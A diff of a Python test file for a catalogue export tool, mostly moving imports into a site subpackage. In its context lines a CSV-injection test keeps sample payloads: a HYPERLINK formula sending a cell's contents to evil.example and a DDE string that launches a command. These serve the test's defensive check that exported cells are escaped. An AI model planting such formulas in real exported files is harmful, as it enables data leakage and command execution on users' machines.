@@ -475,11 +475,12 @@ def test_export_command_needs_a_format(capsys):
 def test_whole_catalogue_files_joined_from_fragments_equal_the_exporters():
     """The downloads and browser files are joined from per-record pieces (so one edited record
     re-makes one record's pieces); they must be exactly what the exporters give."""
-    from dnm_catalogue import fragments, pages
     from dnm_catalogue.citations import exports
     from dnm_catalogue.records.markup import script_json
     from dnm_catalogue.records.query import search_text
     from dnm_catalogue.records.validate import check_catalogue
+    from dnm_catalogue.site import fragments
+    from dnm_catalogue.site import generator as pages
 
     records = pages.newest_first(check_catalogue([Path(__file__).parent.parent / "reports"]).records)
     pieces = [fragments.record_fragments(record) for record in records]
@@ -509,7 +510,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", 
 def test_csv_cells_never_start_a_formula_and_read_back_as_written(tmp_path, capsys):
     """OWASP CSV injection: a cell that a spreadsheet would evaluate starts with an apostrophe,
     which spreadsheets hide; every cell of the command's file and the site's file is checked."""
-    from dnm_catalogue.fragments import csv_file, record_fragments
+    from dnm_catalogue.site.fragments import csv_file, record_fragments
 
     record = make_record(title=FORMULAS[0], keywords=FORMULAS[1:], place="=cmd|' /C calc'!A0")
     for text in (to_csv([record]), csv_file([record_fragments(record)])):
